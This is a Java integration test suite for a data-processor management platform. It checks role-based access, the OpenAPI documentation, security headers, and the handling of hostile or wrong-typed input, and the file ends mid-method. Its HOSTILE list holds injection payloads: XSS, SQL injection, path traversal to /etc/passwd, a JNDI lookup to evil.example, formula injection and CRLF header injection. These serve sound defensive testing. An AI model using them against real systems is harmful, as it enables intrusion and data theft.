package eu.art28.platform.boundary;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.MalformedURLException;
import java.net.URL;
import java.net.http.HttpHeaders;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import jakarta.json.JsonObject;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import eu.art28.testing.Api;
import eu.art28.testing.Browser;
import eu.art28.testing.Parallel;
import eu.art28.testing.SharedApp;

/**
 * Who may call what, as docs/security.md states it endpoint by endpoint: every endpoint the OpenAPI document
 * describes must have its row there, and answers each role and an anonymous caller as the row says. A new
 * endpoint without a row fails here, so does a row for an endpoint that is gone.
 */
@ExtendWith(SharedApp.class)
class SecurityIT {

    static final List<String> ROLES = List.of("PROCUREMENT", "LEGAL", "MANAGER", "ADMIN", "AUDITOR");
    static final Pattern ROW = Pattern.compile("^\\| (GET|POST|PUT|DELETE|PATCH) \\| `([^`]+)` \\| ([^|]+) \\|");


    @SharedApp.Base
    URL base;

    /** The rows of the endpoint table in docs/security.md: "GET /api/processors" → the roles, "any" for all five. */
    static Map<String, Set<String>> matrix() throws IOException {
        Map<String, Set<String>> rows = new LinkedHashMap<>();
        for (String line : Files.readAllLines(Path.of("docs", "security.md"), StandardCharsets.UTF_8)) {
            Matcher row = ROW.matcher(line);
            if (row.find()) {
                String roles = row.group(3).strip();
                rows.put(row.group(1) + " " + row.group(2), roles.equals("any") ? Set.copyOf(ROLES)
                        : Set.copyOf(Arrays.stream(roles.split(",")).map(String::strip).toList()));
            }
        }
        return rows;
    }

    /** An address the path can be called at: ids and codes nobody has, so that nothing is changed. */
    static String concrete(String path) {
        return path.replaceAll("\\{kind[^}]*\\}", "purposes").replaceAll("\\{code[^}]*\\}", "zz-none")
                .replaceAll("\\{[^}]+\\}", "987654321").substring(1);
    }

    @Test
    void everyEndpointAnswersEveryRoleAsTheMatrixSays() throws IOException {
        Api api = new Api(base);
        JsonObject paths = new Api(new URL(base, "/")).get("openapi", null).json().getJsonObject("paths");
        Map<String, Set<String>> matrix = matrix();
        List<String> wrong = java.util.Collections.synchronizedList(new ArrayList<>());
        List<String> seen = java.util.Collections.synchronizedList(new ArrayList<>());
        // three endpoints at a time, as the wrong-kind walk: the bodies are empty or the caller's own profile, so
        // nothing one endpoint's calls store or change is read by another's
        List<Runnable> endpoints = new ArrayList<>();
        paths.forEach((documented, operations) -> operations.asJsonObject().keySet().stream()
                .filter(m -> Set.of("get", "post", "put", "delete", "patch").contains(m)).forEach(m -> endpoints.add(() -> {
                    // a parameter with a pattern, {kind: purposes|data-categories}, is named by its name alone
                    String path = documented.replaceAll("\\{(\\w+):[^}]*\\}", "{$1}");
                    String endpoint = m.toUpperCase() + " " + path;
                    JsonObject operation = operations.asJsonObject().getJsonObject(m);
                    String type = operation.containsKey("requestBody") ? operation.getJsonObject("requestBody")
                            .getJsonObject("content").keySet().iterator().next() : "application/json";
                    seen.add(endpoint);
                    Set<String> allowed = matrix.get(endpoint);
                    if (allowed == null) {
                        wrong.add(endpoint + ": no row in docs/security.md");
                        return;
                    }
                    boolean withBody = !m.equals("get") && !m.equals("delete");
                    String address = concrete(path);
                    int anonymous = api.send(m.toUpperCase(), address, null, type,
                            withBody ? body(api, endpoint, null) : null).status();
                    if (anonymous != 401) {
                        wrong.add(endpoint + " anonymous: " + anonymous);
                    }
                    for (String role : ROLES) {
                        String user = role.toLowerCase();
                        Api.Reply reply = api.send(m.toUpperCase(), address, user, type,
                                withBody ? body(api, endpoint, user) : null);
                        boolean may = allowed.contains(role);
                        if (may ? reply.status() == 401 || reply.status() == 403 || reply.status() >= 500
                                : reply.status() != 403) {
                            wrong.add(endpoint + " " + role + ": " + reply.status()
                                    + (reply.status() >= 500 ? " " + reply.body() : ""));
                        }
                    }
                })));
        Parallel.run(3, endpoints);
        matrix.keySet().stream().filter(row -> !seen.contains(row))
                .forEach(row -> wrong.add(row + ": in docs/security.md but not in the OpenAPI document"));
        assertEquals(List.of(), wrong);
        assertTrue(seen.size() >= 50, "the document describes the whole API: " + seen.size());
    }

    /** The request bodies of the main flows, whose every field must be described and whose schema has an example. */
    static final Set<String> MAIN_BODIES = Set.of("ProcessorJson", "Offboarding", "AgreementJson", "AgreementDecision",
            "EngagementJson", "Acknowledgement", "Question", "EvidenceJson", "LinkJson", "DecisionJson");

    @Test
    void theOpenApiDocumentDescribesRolesErrorsAndExamples() throws IOException {
        JsonObject document = new Api(new URL(base, "/")).get("openapi", null).json();
        JsonObject schemas = document.getJsonObject("components").getJsonObject("schemas");
        Map<String, Set<String>> matrix = matrix();
        List<String> wrong = new ArrayList<>();
        Set<String> bodies = new java.util.TreeSet<>();
        document.getJsonObject("paths").forEach((documented, operations) -> operations.asJsonObject()
                .forEach((m, value) -> {
                    if (!Set.of("get", "post", "put", "delete", "patch").contains(m)) {
                        return;
                    }
                    String endpoint = m.toUpperCase() + " " + documented.replaceAll("\\{(\\w+):[^}]*\\}", "{$1}");
                    JsonObject operation = value.asJsonObject();
                    Set<String> roles = operation.containsKey("x-roles") ? Set.copyOf(operation.getJsonArray("x-roles")
                            .getValuesAs(jakarta.json.JsonString::getString)) : Set.of();
                    if (!roles.equals(matrix.get(endpoint))) {
                        wrong.add(endpoint + ": x-roles " + roles + ", docs/security.md " + matrix.get(endpoint));
                    }
                    if (!operation.getString("description", "").contains("Roles: ")) {
                        wrong.add(endpoint + ": the description does not name the roles");
                    }
                    JsonObject responses = operation.getJsonObject("responses");
                    boolean body = operation.containsKey("requestBody");
                    List<String> statuses = new ArrayList<>(List.of("401", "403"));
                    if (body) {
                        statuses.addAll(List.of("400", "415"));
                    }
                    if (documented.contains("{")) {
                        statuses.add("404");
                    }
                    if (m.equals("put")) {
                        statuses.add("409");
                    }
                    for (String status : statuses) {
                        String ref = responses.containsKey(status) ? String.valueOf(jakarta.json.Json.createPointer(
                                "/content/application~1problem+json/schema/$ref").getValue(responses.getJsonObject(status)))
                                : "none";
                        if (!ref.equals("\"#/components/schemas/Problem\"")) {
                            wrong.add(endpoint + ": " + status + " is not a Problem: " + ref);
                        }
                    }
                    if (body && operation.getJsonObject("requestBody").getJsonObject("content")
                            .containsKey("application/json")) {
                        JsonObject schema = operation.getJsonObject("requestBody").getJsonObject("content")
                                .getJsonObject("application/json").getJsonObject("schema");
                        String name = schema.getString("$ref", "").replace("#/components/schemas/", "");
                        if (MAIN_BODIES.contains(name)) {
                            bodies.add(name);
                        }
                    }
                }));
        for (String name : bodies) {
            JsonObject schema = schemas.getJsonObject(name);
            if (!schema.containsKey("example") || !schema.containsKey("description")) {
                wrong.add(name + ": no example or description");
            }
            schema.getJsonObject("properties").forEach((field, property) -> {
                if (!property.asJsonObject().containsKey("description")) {
                    wrong.add(name + "." + field + ": no description");
                }
            });
        }
        JsonObject problem = schemas.getJsonObject("Problem").getJsonObject("properties");
        assertEquals(Set.of("type", "title", "status", "detail", "violations"), problem.keySet());
        JsonObject processor = schemas.getJsonObject("ProcessorJson").getJsonObject("properties");
        assertEquals("date", processor.getJsonObject("offboardedOn").getString("format"));
        assertEquals("int64", processor.getJsonObject("id").getString("format"));
        assertEquals(List.of("LOW", "MEDIUM", "HIGH"), processor.getJsonObject("riskTier").getJsonArray("enum")
                .getValuesAs(jakarta.json.JsonString::getString));
        assertEquals(List.of("OPEN", "ACKNOWLEDGED", "RESOLVED"), jakarta.json.Json.createPointer(
                "/paths/~1api~1alerts/get/parameters").getValue(document).asJsonArray().getValuesAs(JsonObject.class)
                .stream().filter(p -> p.getString("name").equals("status")).findFirst().orElseThrow()
                .getJsonObject("schema").getJsonArray("enum").getValuesAs(jakarta.json.JsonString::getString),
                "the constants, not AlertStatus.UNRESOLVED");
        Matcher refs = Pattern.compile("\"\\$ref\":\"#/components/schemas/([^\"]+)\"").matcher(document.toString());
        while (refs.find()) {
            if (!schemas.containsKey(refs.group(1))) {
                wrong.add("a reference to a schema that is not there: " + refs.group(1));
            }
        }
        String items = String.valueOf(jakarta.json.Json.createPointer("/paths/~1api~1processors/get/responses/default"
                + "/content/application~1json/schema/properties/items/items/$ref").getValue(document));
        assertEquals("\"#/components/schemas/ProcessorJson\"", items, "a page says what it holds");
        List<String> tags = document.getJsonArray("tags").getValuesAs(JsonObject.class).stream()
                .map(t -> t.getString("name")).toList();
        assertEquals(Set.copyOf(tags).size(), tags.size(), () -> "each tag once: " + tags);
        assertEquals(List.of(), wrong);
        assertEquals(MAIN_BODIES, bodies, "the main request bodies are all in the document");
    }

    /** The profile is the caller's own: sent back as it is, so that walking the matrix changes nobody's. */
    private static byte[] body(Api api, String endpoint, String user) {
        if (endpoint.equals("PUT /api/profile") && user != null) {
            return api.get("api/profile", user).bytes();
        }
        return "{}".getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void everyResponseCarriesTheProtectiveHeaders() throws MalformedURLException {
        Api api = new Api(base);
        for (String path : List.of("login.xhtml", "api/processors")) {
            HttpHeaders headers = api.headers(path, path.startsWith("api") ? "auditor" : null);
            List<String> policies = headers.allValues("Content-Security-Policy");
            assertTrue(policies.stream().anyMatch(p -> p.contains("frame-ancestors 'none'")), path + ": " + policies);
            assertEquals(List.of("nosniff"), headers.allValues("X-Content-Type-Options"), path);
            assertEquals(List.of("DENY"), headers.allValues("X-Frame-Options"), path);
            assertEquals(List.of("same-origin"), headers.allValues("Referrer-Policy"), path);
            assertTrue(headers.firstValue("Strict-Transport-Security").isEmpty(), "HSTS only over https");
            headers.map().forEach((name, values) -> assertFalse(values.toString().matches(".*\\d+\\.\\d+\\.\\d+.*")
                    && (name.equalsIgnoreCase("server") || name.equalsIgnoreCase("x-powered-by")),
                    "no version in " + name + ": " + values));
        }
        List<String> page = api.headers("login.xhtml", null).allValues("Content-Security-Policy");
        assertTrue(page.stream().anyMatch(p -> p.matches(".*script-src 'self' 'nonce-[^']+'.*")),
                "PrimeFaces guards the page's scripts with a nonce: " + page);
    }

    @Test
    void errorsTellNothingAboutTheServer() {
        Api api = new Api(base);
        for (Api.Reply reply : List.of(api.get("api/processors/not-a-number", "auditor"),
                api.get("api/no-such-resource", "auditor"),
                api.post("api/processors", "procurement", "{\"name\": "))) {
            assertTrue(reply.status() >= 400 && reply.status() < 500, reply::toString);
            assertFalse(reply.body().matches("(?s).*(Exception|\\tat |Payara|GlassFish|Jersey|EclipseLink).*"),
                    () -> "leaks: " + reply);
        }
    }

    /** A class of hostile text and its variants. */
    record TextClass(String name, List<String> variants) {
    }

    /**
     * What an attacker or a careless paste puts into a text field, by class. The walk sends each class once per
     * field, the variant turning from field to field, so that every variant is sent and the walk stays within
     * minutes: every variant in every field would be over 5,000 attempts of two or three requests each.
     */
    static final List<TextClass> HOSTILE = List.of(
            new TextClass("markup", List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                    "\"><svg onload=alert(1)>", "javascript:alert(1)")),
            new TextClass("formula", List.of("=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "-2+3",
                    "@SUM(1+1)")),
            new TextClass("code as text", List.of("' OR '1'='1", "'; DROP TABLE processor; --",
                    "1); DELETE FROM account; --", "../../../etc/passwd", "..\\..\\windows\\win.ini", "%00%2e%2e%2f",
                    "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}")),
            new TextClass("control characters", List.of("a\u0000b", "\u0007bell\u001b[31mred")),
            new TextClass("line break", List.of("\r\nSet-Cookie: x=y", "first line\nsecond line")),
            new TextClass("unicode", List.of("\u202Egnp.exe\u202C", "\uD83D\uDE00 \u00FCn\u00EFc\u00F6d\u00E9 \u00DF")),
            new TextClass("length", List.of("x".repeat(1_000_000))),
            new TextClass("blank", List.of("", "   ")));

    private static String json(String value) {
        return jakarta.json.Json.createValue(value).toString();
    }

    /** A text field of a request body: its name as the API's errors give it ({@code contacts[0].name}) and its pointer. */
    record TextField(String path, String pointer, boolean readOnly, boolean writeOnly) {
    }

    /** Every string of the schema that is text, not a date, an enumeration or a file: nested objects and lists too. */
    static List<TextField> textFields(JsonObject property, JsonObject schemas, String path, String pointer,
            boolean readOnly, boolean writeOnly, int depth) {
        JsonObject schema = resolved(property, schemas);
        boolean read = readOnly || property.getBoolean("readOnly", false) || schema.getBoolean("readOnly", false);
        boolean write = writeOnly || property.getBoolean("writeOnly", false) || schema.getBoolean("writeOnly", false);
        String type = schema.getString("type", schema.containsKey("properties") ? "object" : "");
        List<TextField> fields = new ArrayList<>();
        if (depth > 4 || schema.containsKey("enum")) {
            return fields;
        }
        switch (type) {
            case "string" -> {
                if (!Set.of("date", "date-time", "binary", "byte").contains(schema.getString("format", ""))) {
                    fields.add(new TextField(path, pointer, read, write));
                }
            }
            case "array" -> {
                if (schema.containsKey("items")) {
                    fields.addAll(textFields(schema.getJsonObject("items"), schemas, path + "[0]", pointer + "/0",
                            read, write, depth + 1));
                }
            }
            case "object" -> {
                if (schema.containsKey("properties")) {
                    schema.getJsonObject("properties").forEach((name, inner) -> fields.addAll(textFields(
                            inner.asJsonObject(), schemas, path.isEmpty() ? name : path + "." + name,
                            pointer + "/" + name, read, write, depth + 1)));
                }
            }
            default -> {
            }
        }
        return fields;
    }

    /** The body with the value at the pointer, the objects and lists on the way made where the example has none. */
    static JsonObject with(JsonObject body, String pointer, jakarta.json.JsonValue value) {
        String[] steps = pointer.substring(1).split("/");
        JsonObject changed = body;
        for (int i = 1; i < steps.length; i++) {
            jakarta.json.JsonPointer on = jakarta.json.Json.createPointer("/" + String.join("/",
                    Arrays.copyOf(steps, i)));
            if (!holds(on, changed)) {
                changed = on.add(changed, steps[i].matches("\\d+") ? jakarta.json.JsonValue.EMPTY_JSON_ARRAY
                        : jakarta.json.JsonValue.EMPTY_JSON_OBJECT);
            }
        }
        jakarta.json.JsonPointer at = jakarta.json.Json.createPointer(pointer);
        return holds(at, changed) ? at.replace(changed, value) : at.add(changed, value);
    }

    /** Whether the pointer reaches a value; false also where a list or object on the way is missing. */
    private static boolean holds(jakarta.json.JsonPointer at, JsonObject object) {
        try {
            return at.containsValue(object);
        } catch (jakarta.json.JsonException missing) {
            return false;
        }
    }

    /** Whether any text anywhere in the record is the value: an action's reason is read back as the record's. */
    private static boolean holds(jakarta.json.JsonValue record, String value) {
        return switch (record.getValueType()) {
            case STRING -> ((jakarta.json.JsonString) record).getString().equals(value);
            case OBJECT -> record.asJsonObject().values().stream().anyMatch(v -> holds(v, value));
            case ARRAY -> record.asJsonArray().stream().anyMatch(v -> holds(v, value));
            default -> false;
        };
    }

    /**
     * How many lanes the walk runs in at once, each with users and records of its own (a refused attempt is checked
     * against its user's audit trail, which another lane's accepted attempts must not move): the server's two cores
     * answer two lanes nearly twice as fast as one (docs/benchmarks.md).
     */
    private static final int LANES = Integer.getInteger("art28.test.hostileLanes", 3);

    /** An operation of the document with a JSON body, and the number of its first text field in the walk. */
    private record Operation(String method, String endpoint, JsonObject body, JsonObject example, int firstField,
            List<TextField> fields) {
    }

    /**
     * Every text field of every request body of every operation of the OpenAPI document (strings in lists and
     * nested objects too) receives each class of hostile text, inside a body that is valid otherwise: the
     * document's example, with real ids, fresh unique names and the record's version ({@link HostileTargets}),
     * which is sent once as it is first and must be accepted, so that a refusal is the hostile value's. Each
     * attempt is a 4xx problem+json naming the field with nothing stored (the caller's audit trail counted before
     * and after), or accepted with the value read back as sent, stripped (an empty one as none); a read-only field
     * keeps its own value. Never a 5xx.
     */
    @Test
    void hostileTextInEveryFieldOfEveryBodyIsRefusedNamingItOrStoredLiterally() throws Exception {
        Api api = new Api(base);
        JsonObject document = new Api(new URL(base, "/")).get("openapi", null).json();
        JsonObject schemas = document.getJsonObject("components").getJsonObject("schemas");
        List<String> wrong = java.util.Collections.synchronizedList(new ArrayList<>());
        List<Operation> operations = new ArrayList<>();
        int fields = 0;
        for (Map.Entry<String, jakarta.json.JsonValue> item : document.getJsonObject("paths").entrySet()) {
            for (Map.Entry<String, jakarta.json.JsonValue> entry : item.getValue().asJsonObject().entrySet()) {
                String method = entry.getKey().toUpperCase();
                JsonObject operation = entry.getValue().asJsonObject();
                JsonObject content = operation.containsKey("requestBody")
                        ? operation.getJsonObject("requestBody").getJsonObject("content") : null;
                if (!Set.of("POST", "PUT", "PATCH").contains(method) || content == null
                        || !content.containsKey("application/json")) {
                    continue; // no body, or a file: the documents' and the import's own tests
                }
                String endpoint = method + " " + item.getKey().replaceAll("\\{(\\w+):[^}]*\\}", "{$1}");
                JsonObject body = content.getJsonObject("application/json").getJsonObject("schema");
                JsonObject example = resolved(body, schemas).getJsonObject("example");
                if (example == null) {
                    wrong.add(endpoint + ": no example to start from");
                    continue;
                }
                List<TextField> text = textFields(body, schemas, "", "", false, false, 0);
                operations.add(new Operation(method, endpoint, body, example, fields, text));
                fields += text.size();
            }
        }
        // the operations with the most fields first, so that the lanes end at about the same time
        java.util.Deque<Operation> queue = new java.util.concurrent.ConcurrentLinkedDeque<>(operations.stream()
                .sorted(java.util.Comparator.comparingInt((Operation o) -> o.fields().size()).reversed()).toList());
        java.util.Deque<String> countries = HostileTargets.freeCountries(api);
        java.util.concurrent.atomic.AtomicInteger attempts = new java.util.concurrent.atomic.AtomicInteger();
        List<Runnable> lanes = new ArrayList<>();
        for (int lane = 0; lane < LANES; lane++) {
            Api users = lane == 0 ? api : api.standingIn(List.of("procurement", "legal", "manager", "admin"),
                    "lane-" + lane + "-walk!");
            lanes.add(() -> {
                HostileTargets targets = new HostileTargets(users, countries);
                try {
                    for (Operation operation = queue.poll(); operation != null; operation = queue.poll()) {
                        attempts.addAndGet(walk(operation, targets, api, wrong));
                    }
                } finally {
                    targets.close();
                }
            });
        }
        Parallel.run(LANES, lanes);
        assertEquals(List.of(), wrong);
        assertTrue(operations.size() >= 30 && fields >= 150, operations.size() + " operations, " + fields
                + " text fields");
        assertEquals(fields * HOSTILE.size(), attempts.get(), "every class of text in every field");
        // the figures docs/security.md gives, in the test report (failsafe keeps a class's output)
        System.out.println("hostile text walk over the OpenAPI document: " + attempts + " attempts (" + fields
                + " text fields of " + operations.size() + " operations, every one of the " + HOSTILE.size()
                + " classes in each, " + LANES + " lanes)");
    }

    /** One operation's part of the walk, in one lane: its example accepted, then every class in every field. */
    private static int walk(Operation operation, HostileTargets targets, Api api, List<String> wrong) {
        String method = operation.method();
        String endpoint = operation.endpoint();
        JsonObject example = operation.example();
        HostileTargets.Target control;
        try {
            control = targets.of(endpoint);
        } catch (IllegalStateException | AssertionError e) {
            wrong.add(endpoint + ": no target: " + e.getMessage());
            return 0;
        }
        Api.Reply accepted = control.api().send(method, control.address(), control.user(),
                "application/json", valid(example, control).toString().getBytes(StandardCharsets.UTF_8));
        if (accepted.status() >= 300) {
            wrong.add(endpoint + ": the example itself is refused: " + shown(accepted.toString()));
            return 0;
        }
        targets.usedUp(endpoint, accepted);
        Map<String, Integer> audited = new java.util.HashMap<>();
        int attempts = 0;
        int number = operation.firstField();
        for (TextField field : operation.fields()) {
            number++;
            for (TextClass kind : HOSTILE) {
                String value = kind.variants().get(number % kind.variants().size());
                attempts++;
                if (!targets.holds(endpoint)) {
                    audited.clear(); // the new target's records are in its user's trail
                }
                HostileTargets.Target target = targets.of(endpoint);
                String label = endpoint + " " + field.path() + " <- " + kind.name() + " " + shown(value) + ": ";
                int before = audited.computeIfAbsent(target.user(), user -> audit(api, user));
                Api.Reply reply = target.api().send(method, target.address(), target.user(), "application/json",
                        with(valid(example, target), field.pointer(), jakarta.json.Json.createValue(value)).toString()
                                .getBytes(StandardCharsets.UTF_8));
                if (reply.status() >= 500) {
                    wrong.add(label + shown(reply.toString()));
                } else if (reply.status() >= 300) {
                    if (!names(reply, field.path())) {
                        wrong.add(label + "refused without naming the field: " + shown(reply.toString()));
                    }
                    if (audit(api, target.user()) != before) {
                        wrong.add(label + "refused, yet stored");
                    }
                } else {
                    audited.clear();
                    targets.usedUp(endpoint, reply);
                    String read = reply.location() != null ? reply.location().substring(
                            reply.location().indexOf("/api/") + 1) : target.record();
                    // a record created or edited answers with itself as its transaction stored it;
                    // an action's answer may be another thing (a list, the record it acted on): read that record
                    boolean itself = reply.location() != null || target.address().equals(target.record());
                    Api.Reply record = read == null || itself && reply.body().startsWith("{") ? reply
                            : target.api().get(read, target.user());
                    // a password change answers 204: what it stored is not shown
                    jakarta.json.JsonStructure back = record.body().isBlank()
                            ? jakarta.json.JsonValue.EMPTY_JSON_OBJECT : record.structure();
                    String stored = back instanceof JsonObject object ? pointer(object, field.pointer()) : null;
                    String expected = value.strip().isEmpty() ? null : value.strip();
                    boolean ignored = field.readOnly() || IGNORED.contains(endpoint + " " + field.path());
                    // a blank is no value: none is stored, or what the record has without it
                    boolean literal = expected == null ? stored == null || !stored.isBlank()
                            : expected.equals(stored) || stored == null && holds(back, expected);
                    if (ignored ? expected != null && expected.equals(stored) : !field.writeOnly() && !literal) {
                        wrong.add(label + (ignored ? "an ignored field took it" : "stored as " + shown(stored)));
                    }
                }
            }
        }
        return attempts;
    }

    /**
     * Fields an operation does not use although its body's schema has them, as the document says: an agreement's
     * workflow actions share one body, whose reason is "reject and terminate: why" (submit, approve and withdraw
     * ignore it); a link's decisions share one,
     * whose reference is the approval's and whose reason is "refuse and object: why".
     */
    static final Set<String> IGNORED = Set.of("POST /api/agreements/{id}/submit reason",
            "POST /api/agreements/{id}/withdraw reason",
            "POST /api/agreements/{id}/approve reason",
            "POST /api/processors/{processorId}/subprocessors/{linkId}/approve reason",
            "POST /api/processors/{processorId}/subprocessors/{linkId}/object reference",
            "POST /api/processors/{processorId}/subprocessors/{linkId}/refuse reference");

    /** The example, with what only the target knows: real ids, fresh unique names, the version last read. */
    private static JsonObject valid(JsonObject example, HostileTargets.Target target) {
        jakarta.json.JsonObjectBuilder body = jakarta.json.Json.createObjectBuilder(example);
        target.over().forEach(body::add);
        return body.build();
    }

    /** How many changes the audit trail holds of this user. */
    private static int audit(Api api, String user) {
        return count(api, "api/audit?size=1&actor=" + user);
    }

    /**
     * Every operation of the OpenAPI document, every field of its body and every parameter, each with values of
     * the wrong kind: a string for a number, a fraction for a whole number, a number for text, an object for a
     * list, a name no enumeration has, a date outside 1900-2999 or written otherwise, ids that are no ids, pages
     * beyond reach. Each must be a 4xx problem+json naming the field or parameter, never a 5xx, and nothing may be
     * stored: the lists and every user's audit trail are counted before and after. Text (markup, formula prefixes,
     * control characters, length) is the test above, on bodies that are valid otherwise.
     */
    @Test
    void everyOperationRefusesValuesOfTheWrongKindNamingTheField() throws IOException {
        Api api = new Api(base);
        JsonObject document = new Api(new URL(base, "/")).get("openapi", null).json();
        JsonObject schemas = document.getJsonObject("components").getJsonObject("schemas");
        Map<String, Integer> before = stored(api);
        List<String> wrong = java.util.Collections.synchronizedList(new ArrayList<>());
        java.util.concurrent.atomic.AtomicInteger attempts = new java.util.concurrent.atomic.AtomicInteger();
        // three operations at a time: nothing is stored, so the attempts of one cannot disturb another's
        List<Runnable> operations = new ArrayList<>();
        document.getJsonObject("paths").forEach((path, item) -> item.asJsonObject().forEach((method, value) -> operations
                .add(() -> {
            if (!Set.of("get", "post", "put", "delete", "patch").contains(method)) {
                return;
            }
            JsonObject operation = value.asJsonObject();
            String user = operation.getJsonArray("x-roles").getString(0).toLowerCase();
            String address = concrete(path.replaceAll("\\{(\\w+):[^}]*\\}", "{$1}"));
            String endpoint = method.toUpperCase() + " " + path;
            List<JsonObject> parameters = operation.containsKey("parameters")
                    ? operation.getJsonArray("parameters").getValuesAs(JsonObject.class) : List.of();
            JsonObject body = operation.containsKey("requestBody") && operation.getJsonObject("requestBody")
                    .getJsonObject("content").containsKey("application/json") ? operation.getJsonObject("requestBody")
                    .getJsonObject("content").getJsonObject("application/json").getJsonObject("schema") : null;
            if (body != null && body.containsKey("$ref")) {
                resolved(body, schemas).getJsonObject("properties").forEach((field, property) -> {
                    for (String misfit : misfits(property.asJsonObject(), schemas)) {
                        attempts.incrementAndGet();
                        refusedNaming(() -> api.send(method.toUpperCase(), address, user, "application/json",
                                ("{\"" + field + "\":" + misfit + "}").getBytes(StandardCharsets.UTF_8)), field,
                                endpoint + " " + field + "=" + misfit, wrong);
                    }
                });
            }
            if (!method.equals("get")) {
                return;
            }
            for (JsonObject parameter : parameters) {
                String name = parameter.getString("name");
                JsonObject schema = parameter.getJsonObject("schema");
                if (parameter.getString("in").equals("path")) {
                    // a text path parameter (a code, a user name) has no wrong kind: an unknown one is a 404 or none
                    for (String id : schema.getString("type", "").equals("integer")
                            ? List.of("abc", "1.5", "-1", "99999999999999999999") : List.<String>of()) {
                        attempts.incrementAndGet();
                        Api.Reply reply = api.get(concrete(path.replaceAll("\\{" + name + "(:[^}]*)?\\}", id)), user);
                        if (reply.status() < 400 || reply.status() >= 500
                                || !reply.contentType().startsWith("application/problem+json")) {
                            wrong.add(endpoint + " " + name + "=" + id + ": " + shown(reply.toString()));
                        }
                    }
                    continue;
                }
                for (String misfit : parameterMisfits(name, schema)) {
                    attempts.incrementAndGet();
                    refusedNaming(() -> api.get(address + "?" + name + "=" + (misfit.contains("&") ? misfit
                            : java.net.URLEncoder.encode(misfit, StandardCharsets.UTF_8)), user), name,
                            endpoint + " ?" + name + "=" + misfit, wrong);
                }
            }
        })));
        Parallel.run(3, operations);
        assertEquals(List.of(), wrong);
        assertEquals(before, stored(api), "nothing stored, nothing changed");
        assertTrue(attempts.get() >= 800, "at least 800 attempts: " + attempts);
        // the figure issue 20 asks for, in the test report (failsafe keeps a class's output)
        System.out.println("hostile walk over the OpenAPI document: " + attempts + " attempts, all refused naming the field");
    }

    private static void refusedNaming(java.util.function.Supplier<Api.Reply> attempt, String field, String label,
            List<String> wrong) {
        Api.Reply reply;
        try {
            reply = attempt.get();
        } catch (IllegalStateException e) {
            wrong.add(label + ": " + e);
            return;
        }
        if (reply.status() != 400 || !names(reply, field)) {
            wrong.add(label + ": " + shown(reply.toString()));
        }
    }

    /**
     * Whether the refusal is a problem+json that names the field (or a part of it), and no class of ours or Java's:
     * an element of a list of words may be named as the list, {@code services} for {@code services[0]}.
     */
    private static boolean names(Api.Reply reply, String field) {
        String list = field.endsWith("[0]") ? field.substring(0, field.length() - 3) : field;
        return reply.status() >= 400 && reply.status() < 500
                && reply.contentType().startsWith("application/problem+json")
                && !reply.body().matches("(?s).*(eu\\.art28|java\\.|Exception).*")
                && reply.json().getJsonArray("violations").getValuesAs(JsonObject.class).stream()
                        .map(v -> v.getString("field"))
                        .anyMatch(f -> f.equals(field) || f.equals(list) || f.startsWith(field + "[")
                                || f.startsWith(field + "."));
    }

    /** The property's own schema: a reference followed, {@code allOf} of one reference unwrapped. */
    private static JsonObject resolved(JsonObject schema, JsonObject schemas) {
        if (schema.containsKey("$ref")) {
            return schemas.getJsonObject(schema.getString("$ref").replace("#/components/schemas/", ""));
        }
        if (schema.containsKey("allOf")) {
            return resolved(schema.getJsonArray("allOf").getJsonObject(0), schemas);
        }
        return schema;
    }

    /** JSON values that do not fit a property of this schema. */
    static List<String> misfits(JsonObject property, JsonObject schemas) {
        JsonObject schema = resolved(property, schemas);
        if (schema.containsKey("enum")) {
            String first = schema.getJsonArray("enum").getString(0);
            return List.of("\"EXTREME\"", json(first.toLowerCase()), "\"\"", "1", "[" + json(first) + "]");
        }
        String type = schema.getString("type", schema.containsKey("properties") ? "object" : "");
        List<String> misfits = new ArrayList<>(switch (type) {
            case "string" -> switch (schema.getString("format", "")) {
                case "date" -> DATES.stream().map(SecurityIT::json).toList();
                case "date-time" -> List.of("\"yesterday\"", "5");
                default -> List.of("42", "true", "[\"x\"]", "{\"x\":\"y\"}");
            };
            case "integer" -> List.of("\"48\"", "1.5", "99999999999999999999999", "true", "\"\"", "[1]");
            case "number" -> List.of("\"1\"", "true");
            case "boolean" -> List.of("\"true\"", "1", "\"yes\"");
            case "array" -> List.of("\"x\"", "{\"a\":1}", "7");
            case "object" -> List.of("\"x\"", "[1]", "7");
            default -> List.of();
        });
        if (type.equals("array") && schema.containsKey("items")) {
            misfits(schema.getJsonObject("items"), schemas).stream().limit(2).map(m -> "[" + m + "]")
                    .forEach(misfits::add);
        }
        return misfits;
    }

    /** Dates no business has: the ends of Java's range, before 1900, after 2999, and ways of writing them wrong. */
    static final List<String> DATES = List.of("+999999999-12-31", "-999999999-01-01", "-0001-01-01", "1899-12-31",
            "3000-01-01", "31-12-2026", "2026-02-30", "2026-1-5");

    private static List<String> parameterMisfits(String name, JsonObject schema) {
        if (schema.containsKey("enum")) {
            return List.of("UNRESOLVED", "EXTREME", schema.getJsonArray("enum").getString(0).toLowerCase());
        }
        return switch (schema.getString("type", "")) {
            case "string" -> schema.getString("format", "").equals("date") ? DATES : List.of();
            case "boolean" -> List.of("maybe", "1", "yes", "TRUE");
            case "integer" -> name.equals("page") ? List.of("-1", "abc", "10737419&size=200", "99999999999")
                    : name.equals("size") ? List.of("0", "201", "1.5") : List.of("abc", "1.5", "99999999999999999999");
            default -> List.of();
        };
    }

    private static int count(Api api, String list) {
        try {
            return api.get(list, "admin").json().getInt("total");
        } catch (RuntimeException e) {
            throw new AssertionError(list + ": " + e, e);
        }
    }

    /** What a refused attempt must leave as it was: the main lists and what each user did, per the audit trail. */
    private static Map<String, Integer> stored(Api api) {
        Map<String, Integer> counts = new LinkedHashMap<>();
        for (String list : List.of("processors", "agreements", "engagements", "evidence", "deletions", "users")) {
            counts.put(list, count(api, "api/" + list + "?size=1"));
        }
        for (String role : ROLES) {
